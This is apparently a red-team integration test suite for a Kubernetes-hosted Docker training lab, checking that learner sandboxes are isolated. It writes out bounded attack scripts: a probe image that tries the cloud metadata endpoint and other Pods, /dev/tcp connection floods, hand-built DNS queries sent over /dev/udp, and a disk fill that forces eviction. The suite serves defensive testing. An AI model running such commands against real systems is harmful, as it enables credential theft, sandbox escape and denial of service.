/**
 * The grading path on Kubernetes (issue 18's red team, on the test cluster): the registries and
 * the grader live in a Pod of their own that sends nothing but replies, so a learner who squats
 * `localhost:5001` fools only their own tools; a killed registry comes back at the same address
 * with its data; two sessions share no kernel uid and the per-uid kernel accounts are refused;
 * the workstation's root is read-only and a filled /tmp evicts only its own Pod; a learner's image
 * run by the multistage probe reaches nothing of the host, the runner, the mirror or another
 * session; one learner's flood of the shared mirror leaves the others their pulls; with
 * EGRESS=none no DNS query leaves the workstation Pod.
 * Every attack is bounded (one call per kernel account, a fill of 1.1 GiB at most, 48 held
 * connections for a minute at most, a handful of DNS queries); traffic goes only to the host's
 * own addresses, the Pods made here and a network namespace of the test's.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Runner } from '../../runner/src/app.ts';
import { LABEL, registryPodName, sessionKey } from '../../runner/src/kubernetes/names.ts';
import { api, sleep, type Term } from '../runner/helpers.ts';
import { registryRestartShown, twoReadyLearners } from '../security/ready.ts';
import { boundedAttempt as attempt } from '../security/room.ts';
import { squat as squatPort, unsquat } from '../security/squat.ts';
import { startNetnsHost, type NetnsHost } from '../security/netns-host.ts';
import { createTestNamespace, startKubeRunner, type TestNamespace } from './fixture.ts';

type Session = { id: string; token: string };

const statusOf = (url: string) =>
  fetch(url, { redirect: 'manual', signal: AbortSignal.timeout(3_000) }).then(
    async (r) => ({ status: r.status, auth: r.headers.get('www-authenticate') ?? '', api: r.headers.get('docker-distribution-api-version') ?? '', body: await r.text() }),
    () => ({ status: 0, auth: '', api: '', body: '' }),
  );

/** A multi-line attempt: the lines go in as a script file in the learner's home, then run bounded. */
async function script(runner: Runner, id: string, t: Term, lines: string[], seconds: number) {
  const name = `attempt-${Math.random().toString(16).slice(2, 8)}.sh`;
  await runner.provider.ops(id).copyIn('/home/learner/rl-attempts', [{ path: name, content: lines.join('\n') + '\n', mode: 0o755 }]);
  return attempt(t, `bash ~/rl-attempts/${name}`, seconds);
}

/** Host pids of a Pod's processes named `comm` (cgroup v1 or v2, cgroupfs or systemd driver). */
function podProcesses(podUid: string, comm: string): number[] {
  const forms = [podUid, podUid.replace(/-/g, '_')];
  return readdirSync('/proc')
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        return readFileSync(`/proc/${p}/comm`, 'utf8').trim() === comm && forms.some((f) => readFileSync(`/proc/${p}/cgroup`, 'utf8').includes(`pod${f}`));
      } catch {
        return false;
      }
    })
    .map(Number);
}

describe('grading path on Kubernetes', { timeout: 30 * 60_000 }, () => {
  let ns: TestNamespace;
  let runner: Runner;
  let a: Session;
  let b: Session;
  let ta: Term;
  let tb: Term;
  const work = mkdtempSync(join(tmpdir(), 'rl-k8s-gp-'));
  // A server on every address of the host, IPv4 and IPv6 (its loopback, its node address, the Pods'
  // gateway): a learner's realm, redirect or probed image may name it; nothing may reach it.
  let hostHits = 0;
  const host: Server = createServer((_req, res) => {
    hostHits++;
    res.end('HOST-SECRET');
  });
  // "The outside" for DNS: a resolver in a network namespace of the test's, at an address no
  // rule refuses by range (only EGRESS=none does).
  let outside: NetnsHost;

  before(async () => {
    await new Promise<void>((r) => host.listen(0, '::', r));
    outside = await startNetnsHost('198.51.100.8', { dns: true });
    execFileSync('gcc', ['-static', '-O1', '-o', join(work, 'per-uid'), new URL('../security/per-uid.c', import.meta.url).pathname]);
    ns = await createTestNamespace('gp');
    runner = await startKubeRunner(ns, { egress: 'none' });
    ({ a, b, ta, tb } = await twoReadyLearners(runner));
  });
  after(async () => {
    ta?.close();
    tb?.close();
    await runner?.close().catch(() => undefined);
    if (ns) {
      assert.deepEqual(await ns.leftovers(), []);
      await ns.remove();
    }
    host.close();
    outside?.close();
    rmSync(work, { recursive: true, force: true });
  });

  const squat = (port: number, head: string[]) => squatPort(runner, a.id, ta, port, head);

  it('squatted registry ports with a foreign realm and a redirect: the lab starts, the runner asks the real registries, follows nothing, shows nothing', async () => {
    const port = (host.address() as AddressInfo).port;
    assert.match(await squat(5001, ['HTTP/1.1 401 Unauthorized', `WWW-Authenticate: Bearer realm="http://127.0.0.1:${port}/token",service=x`]), /answer 401/);
    assert.match(await squat(5000, ['HTTP/1.1 302 Found', `Location: http://127.0.0.1:${port}/redirected`]), /answer 302/);
    const start = await api(runner.url, 'POST', `/api/sessions/${a.id}/labs/registry-auth/start`, { token: a.token });
    assert.equal(start.status, 200, `the password registry starts although the learner squats localhost:5001: ${start.text}`);
    for (const lab of ['registry-auth', 'push-private']) {
      const c = await api(runner.url, 'POST', `/api/sessions/${a.id}/labs/${lab}/check`, { token: a.token });
      assert.equal(c.status, 200, c.text);
      const r = c.json as { passed: boolean; criteria: Array<{ message: string }> };
      assert.equal(r.passed, false, `${lab}: nothing was done, nothing passes`);
      for (const cr of r.criteria) assert.doesNotMatch(cr.message, /HOST-SECRET|127\.0\.0\.1:\d+\/(token|redirected)/, `${lab}: ${cr.message}`);
    }
    const ops = runner.provider.ops(a.id);
    const real = await statusOf(`${ops.registryUrl(5001)}/v2/`);
    assert.equal(real.status, 401);
    assert.match(real.auth, /^Basic realm="Registry Lab"/, real.auth);
    assert.equal((await statusOf(`${ops.registryUrl()}/v2/`)).api, 'registry/2.0');
    assert.equal(hostHits, 0, 'nothing reached the host\'s server');
    assert.match(await unsquat(ta), /RESTORED/);
  });

  it('the grader and the registries send nothing but replies: the mirror, the workstation and the host are out of reach', async () => {
    const mirror = (await ns.core.listNamespacedPod({ namespace: ns.name, labelSelector: `${LABEL.role}=mirror` })).items[0]!.status!.podIP!;
    const workstation = (await ns.core.listNamespacedPod({ namespace: ns.name, labelSelector: `${LABEL.session}=${sessionKey(a.id)},${LABEL.role}=sandbox` })).items[0]!.status!.podIP!;
    const ops = runner.provider.ops(a.id);
    const probe = (target: string) => ops.graderExec(['sh', '-c', 'curl -s -m 3 -o /dev/null "$1"; echo "rc=$?"', 'probe', target], { timeoutMs: 20_000 });
    assert.match((await probe('http://localhost:5000/v2/')).stdout, /rc=0/, 'its own registry answers');
    for (const target of [`http://${mirror}:5000/v2/`, `http://${workstation}:5002/`, 'http://169.254.169.254/']) {
      assert.doesNotMatch((await probe(target)).stdout, /rc=0/, `the grader reached ${target}`);
    }
  });

  it('a registry killed outright comes back at the same address with its data, and the session stays up', async () => {
    const pushed = await attempt(ta, 'docker pull -q busybox >/dev/null && docker tag busybox localhost:5000/kept/busybox:1 && docker push -q localhost:5000/kept/busybox:1 >/dev/null && echo PUSHED', 240);
    assert.match(pushed.out, /PUSHED/, pushed.out);
    const ops = runner.provider.ops(a.id);
    await ops.startRegistry({ port: 5001 });
    const url = ops.registryUrl();
    const name = registryPodName(a.id);
    const before = await ns.core.readNamespacedPod({ name, namespace: ns.name });
    const restarts = () => before.status!.containerStatuses!.find((c) => c.name === 'registry')!.restartCount;
    const pids = podProcesses(before.metadata!.uid!, 'registry');
    assert.ok(pids.length >= 2, `the session registry and the extra one run: ${pids}`);
    // What the kernel's OOM killer does to a registry a flood filled: SIGKILL.
    for (const pid of pids) {
      try {
        process.kill(pid, 'SIGKILL');
      } catch (err) {
        // One that was already on its way out (the extra registry restarted just before).
        if ((err as NodeJS.ErrnoException).code !== 'ESRCH') throw err;
      }
    }
    let back = { status: 0 } as Awaited<ReturnType<typeof statusOf>>;
    for (let i = 0; i < 120 && back.status !== 200; i++) {
      await sleep(500);
      back = await statusOf(`${url}/v2/`);
    }
    assert.equal(back.status, 200, 'the session registry came back');
    assert.equal(ops.registryUrl(), url, 'at the same address');
    // The kubelet reports the restart a moment after the registry answers again.
    let count = restarts();
    for (let i = 0; i < 60 && count <= restarts(); i++, await sleep(500)) {
      count = (await ns.core.readNamespacedPod({ name, namespace: ns.name })).status!.containerStatuses!.find((c) => c.name === 'registry')!.restartCount;
    }
    assert.ok(count > restarts(), 'restarted by the kubelet');
    assert.match((await statusOf(`${url}/v2/_catalog`)).body, /kept\/busybox/, 'its data is kept');
    let extra = 0;
    for (let i = 0; i < 60 && extra !== 200; i++, await sleep(500)) extra = (await statusOf(`${ops.registryUrl(5001)}/v2/`)).status;
    assert.equal(extra, 200, 'the extra registry came back too');
    assert.ok(await registryRestartShown(runner, a), 'the session view shows the restart (liveness probe)');
    const pull = await attempt(ta, 'docker pull -q localhost:5000/kept/busybox:1 >/dev/null && echo PULLED', 120);
    assert.match(pull.out, /PULLED/, pull.out);
  });

  it('two sessions share no kernel uid; keyring, inotify and message queues are refused, in the workstation and in an inner container', async () => {
    const ids = async (t: Term) => (await attempt(t, 'echo "uid=$(id -u)"; docker run --rm busybox cat /proc/self/uid_map', 120)).out;
    const own = (out: string) => [/uid=(\d+)/.exec(out)?.[1], /^\s*0\s+(\d+)\s+\d+/m.exec(out)?.[1]];
    const [ua, ub] = [await ids(ta), await ids(tb)];
    const [[aUid, aSub], [bUid, bSub]] = [own(ua), own(ub)];
    assert.ok(aUid && bUid && aSub && bSub, `${ua}\n${ub}`);
    assert.notEqual(aUid, bUid);
    assert.notEqual(aSub, bSub);
    assert.ok(Number(aUid) !== 1000 && Number(bUid) !== 1000);
    await runner.provider.ops(a.id).copyIn('/home/learner/bin', [{ path: 'per-uid', content: readFileSync(join(work, 'per-uid')), mode: 0o755 }]);
    for (const cmd of ['~/bin/per-uid', 'docker run --rm --security-opt seccomp=unconfined -v ~/bin:/b busybox /b/per-uid']) {
      const r = await attempt(ta, cmd, 120);
      for (const call of ['add_key', 'inotify_init1', 'mq_open']) assert.match(r.out, new RegExp(`${call}: ENOSYS`), `${cmd}\n${r.out}`);
    }
    const other = await attempt(tb, 'docker run --rm busybox echo still-runs', 120);
    assert.match(other.out, /still-runs/, other.out);
  });

  const podIp = async (role: string, id?: string) =>
    (await ns.core.listNamespacedPod({ namespace: ns.name, labelSelector: `${id ? `${LABEL.session}=${sessionKey(id)},` : ''}${LABEL.role}=${role}` })).items[0]!.status!.podIP!;

  it("a probed image (multistage `runs`) reaches neither the host, the runner, the mirror nor another session; nothing of theirs reaches the message", async () => {
    const port = (host.address() as AddressInfo).port;
    const runnerPort = new URL(runner.url).port;
    const [mirror, ownRegistry, otherRegistry, otherWorkstation] = await Promise.all([podIp('mirror'), podIp('registry', a.id), podIp('registry', b.id), podIp('sandbox', b.id)]);
    // B serves a secret on its workstation's every address, as a learner may.
    await runner.provider.ops(b.id).copyIn('/home/learner', [{ path: 'b-www', content: 'HTTP/1.0 200 OK\r\nContent-Length: 8\r\n\r\nB-SECRET' }]);
    await attempt(tb, '(setsid timeout 300 socat TCP-LISTEN:8099,reuseaddr,fork OPEN:/home/learner/b-www,rdonly >/dev/null 2>&1 &); echo LISTENING', 30);
    // The Pods' gateway is this host: its bridge, IPv4 and IPv6 link-local (a server on `::` answers there).
    const gateway = Object.values(networkInterfaces()).find((addrs) => addrs?.some((x) => x.family === 'IPv4' && x.address.split('.').slice(0, 3).join('.') === ownRegistry.split('.').slice(0, 3).join('.')));
    const linkLocal = gateway?.find((x) => x.family === 'IPv6' && x.address.startsWith('fe80:'))?.address;
    const hostV4 = Object.values(networkInterfaces()).flat().filter((x) => x?.family === 'IPv4').map((x) => x!.address);
    const targets = [
      ...hostV4.flatMap((h) => [`${h}:${port}/`, `${h}:${runnerPort}/api/health`]),
      ...(linkLocal ? [`[${linkLocal}%eth0]:${port}/`] : []),
      `${mirror}:5000/v2/`,
      `${ownRegistry}:5000/v2/`,
      `${otherRegistry}:5000/v2/`,
      `${otherWorkstation}:8099/`,
      '169.254.169.254/latest/meta-data/',
    ];
    // The image tries every target at once, then serves what it reached, bodies included, on
    // /healthz: a check message shows up to 40 characters of it. A server on its own loopback shows
    // that its attempts work. The probe has no /dev, so no `&` (busybox sh opens /dev/null for a
    // background job): the attempts run side by side as the stages of one pipeline.
    const probe = [
      'try() { if out=$(timeout 4 wget -q -T 3 -O - "http://$1" 2>&1); then echo "reached $1 $out"; fi; cat; }',
      'lo() { for i in 1 2 3 4 5 6; do if timeout 4 wget -q -T 3 -O - http://127.0.0.1:8081/ 2>&1 | grep -q LO; then echo loopback-ok; break; fi; sleep 0.5; done; cat; }',
      'res=$( { printf "HTTP/1.0 200 OK\\r\\n\\r\\nLO" | timeout 8 nc -l -p 8081 >&2; cat; } | lo | ' + targets.map((t) => `try '${t}'`).join(' | ') + ' )',
      'case "$res" in *loopback-ok*) lo=yes ;; *) lo=no ;; esac',
      'hits=$(echo "$res" | grep "^reached" | tr "\\n" " ")',
      'reply="loopback:$lo reached:${hits:-none}"',
      'while true; do printf "HTTP/1.0 200 OK\\r\\nContent-Length: %s\\r\\n\\r\\n%s" "${#reply}" "$reply" | nc -l -p 8080; done',
    ].join('\n');
    await runner.provider.ops(a.id).copyIn('/home/learner/evil', [
      { path: 'probe.sh', content: probe + '\n' },
      { path: 'Dockerfile', content: 'FROM busybox\nCOPY probe.sh /probe.sh\nCMD ["sh", "/probe.sh"]\n' },
    ]);
    const start = await api(runner.url, 'POST', `/api/sessions/${a.id}/labs/multistage/start`, { token: a.token });
    assert.equal(start.status, 200, start.text);
    const push = await attempt(ta, 'cd ~/evil && docker build -q -t localhost:5000/shop/api:slim . >/dev/null && docker push -q localhost:5000/shop/api:slim', 240);
    assert.equal(push.code, 0, push.out);
    const c = await api(runner.url, 'POST', `/api/sessions/${a.id}/labs/multistage/check`, { token: a.token });
    assert.equal(c.status, 200, c.text);
    const criteria = (c.json as { criteria: Array<{ id: string; passed: boolean; message: string }> }).criteria;
    const runs = criteria.find((x) => x.id === 'runs')!;
    assert.ok(runs.passed, `the probe ran and answered: ${runs.message}`);
    assert.match(runs.message, /loopback:yes reached:none/, `the probe reached something: ${runs.message}`);
    for (const cr of criteria) assert.doesNotMatch(cr.message, /HOST-SECRET|B-SECRET|registry\/2\.0|\{\}/, `${cr.id}: ${cr.message}`);
    assert.equal(hostHits, 0, 'nothing reached the host\'s server');
    // The probe Pod and its policy are gone.
    assert.deepEqual((await ns.core.listNamespacedPod({ namespace: ns.name, labelSelector: `${LABEL.role}=probe` })).items.map((p) => p.metadata!.name), []);
  });

  it("one learner's flood of the shared mirror leaves the other learner's pull", async () => {
    // 48 held connections and 4 request loops, a minute at most; then B pulls an image it does not have.
    const flood = await script(runner, a.id, ta, [
      'rm -f /tmp/holders; end=$((SECONDS + 60))',
      'for i in 1 2 3 4; do (while [ $SECONDS -lt $end ]; do curl -s -o /dev/null -m 2 http://mirror:5000/v2/library/busybox/manifests/latest; done) & echo $! >> /tmp/holders; done',
      'for i in $(seq 1 48); do (exec 3<>/dev/tcp/mirror/5000 && sleep 60) 2>/dev/null & echo $! >> /tmp/holders; done',
      'sleep 2; echo "open: $(ss -tn state established dst $(getent hosts mirror | cut -d" " -f1) | tail -n +2 | wc -l)"',
    ], 60);
    try {
      const open = Number(/open: (\d+)/.exec(flood.out)?.[1]);
      assert.ok(open > 0 && open <= 32, `one sandbox holds ${open} connections to the mirror\n${flood.out}`);
      const other = await attempt(tb, 'docker rmi -f busybox >/dev/null 2>&1; docker pull -q busybox >/dev/null && echo B-PULL-OK', 120);
      assert.match(other.out, /B-PULL-OK/, other.out);
    } finally {
      await attempt(ta, 'kill $(cat /tmp/holders) 2>/dev/null; pkill -x sleep; rm -f /tmp/holders; echo STOPPED', 30);
    }
  });

  it('EGRESS=none: the workstation resolves its own names; no DNS query for another name leaves its Pod, from the workstation or an inner container', async () => {
    const tag = Math.random().toString(16).slice(2, 8);
    const names = [1, 2, 3, 4].map((i) => `q${i}-${tag}.outside.example`);
    // The test's resolver answers (from the host): what arrives there is seen.
    const { Resolver } = await import('node:dns/promises');
    const resolver = new Resolver({ timeout: 2_000, tries: 2 });
    resolver.setServers([outside.address]);
    assert.deepEqual(await resolver.resolve4(`control-${tag}.outside.example`), ['192.0.2.53']);
    // What leaves A's workstation Pod, counted after its own rules (mangle POSTROUTING sees only
    // what OUTPUT let through): rules without a target in that Pod's network namespace, which
    // change nothing (iptables-legacy, as the Pod's own rules). This host's FORWARD policy keeps
    // the Pods' traffic from the test's namespace anyway, so these counters say "nothing left".
    const sandbox = (await ns.core.listNamespacedPod({ namespace: ns.name, labelSelector: `${LABEL.session}=${sessionKey(a.id)},${LABEL.role}=sandbox` })).items[0]!;
    const pause = podProcesses(sandbox.metadata!.uid!, 'pause')[0];
    assert.ok(pause, 'the workstation Pod\'s network namespace');
    const mirror = await podIp('mirror');
    const observe = [['-p', 'udp', '--dport', '53'], ['-p', 'tcp', '--dport', '53'], ['-d', outside.address], ['-d', mirror, '-p', 'tcp', '--dport', '5000']];
    const inPod = (args: string[]) => execFileSync('nsenter', [`--net=/proc/${pause}/ns/net`, 'iptables-legacy', '-w', '-t', 'mangle', ...args], { encoding: 'utf8' });
    for (const o of observe) inPod(['-A', 'POSTROUTING', ...o, '-m', 'comment', '--comment', `rl-test-${tag}`]);
    const counts = () =>
      inPod(['-L', 'POSTROUTING', '-v', '-x', '-n'])
        .split('\n')
        .filter((l) => l.includes(`rl-test-${tag}`))
        .map((l) => Number(l.trim().split(/\s+/)[0]));
    try {
      // A DNS query by hand: bash's /dev/udp and /dev/tcp, to the test's resolver.
      const query = (name: string) =>
        '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' +
        name.split('.').map((l) => `\\x${l.length.toString(16).padStart(2, '0')}${l}`).join('') +
        '\\x00\\x00\\x01\\x00\\x01';
      const r = await script(runner, a.id, ta, [
        'getent hosts mirror >/dev/null && echo MIRROR-OK',
        `getent hosts ${names[0]} || echo NO-ANSWER-1`,
        `printf '${query(names[1]!)}' > /dev/udp/${outside.address}/53 && echo SENT-UDP || echo REFUSED-UDP`,
        `(exec 3<>/dev/tcp/${outside.address}/53) 2>/dev/null && echo OPENED-TCP || echo REFUSED-TCP`,
        `docker run --rm busybox nslookup -timeout=2 ${names[2]} ${outside.address} >/dev/null 2>&1 || echo NO-ANSWER-3`,
        `docker run --rm busybox nslookup -timeout=2 ${names[3]} >/dev/null 2>&1 || echo NO-ANSWER-4`,
        'curl -s -m 5 -o /dev/null http://mirror:5000/v2/ && echo MIRROR-HTTP-OK',
      ], 120);
      assert.match(r.out, /MIRROR-OK/, r.out);
      for (const m of ['NO-ANSWER-1', 'REFUSED-UDP', 'REFUSED-TCP', 'NO-ANSWER-3', 'NO-ANSWER-4', 'MIRROR-HTTP-OK']) assert.match(r.out, new RegExp(m), r.out);
      assert.doesNotMatch(r.out, /OPENED-TCP/, r.out);
      const [udp53, tcp53, toResolver, toMirror] = counts();
      assert.ok(toMirror! > 0, `the observer sees what leaves (the mirror): ${counts()}`);
      assert.deepEqual([udp53, tcp53, toResolver], [0, 0, 0], 'no DNS packet and nothing to the resolver left the Pod');
      assert.deepEqual(outside.dnsQueries().filter((q) => q.includes(tag) && !q.startsWith('control-')), [], 'the resolver was asked nothing');
    } finally {
      for (const o of observe) inPod(['-D', 'POSTROUTING', ...o, '-m', 'comment', '--comment', `rl-test-${tag}`]);
    }
  });

  it('the workstation\'s root is read-only; a /tmp filled past its limit evicts that Pod only', async () => {
    const ro = await attempt(ta, 'for p in /usr/local/bin/x /etc/x /var/lib/x /x; do touch "$p" 2>&1 | grep -q "Read-only file system" && echo "RO $p"; done', 30);
    assert.equal(ro.out.match(/^RO /gm)?.length, 4, ro.out);
    // 1.1 GiB into the 1 GiB /tmp: the kubelet evicts the Pod; the other session goes on.
    await attempt(ta, '(setsid sh -c "head -c 1100M /dev/zero > /tmp/fill" >/dev/null 2>&1 &); echo FILLING', 30);
    let state = '';
    for (let i = 0; i < 120 && state !== 'stopped'; i++, await sleep(1000)) {
      state = ((await api(runner.url, 'GET', `/api/sessions/${a.id}`, { token: a.token })).json as { state: string }).state;
    }
    assert.equal(state, 'stopped', 'the filled session is stopped (its Pod evicted)');
    const other = await attempt(tb, 'echo ok > /tmp/ok && cat /tmp/ok', 30);
    assert.match(other.out, /ok/);
  });
});
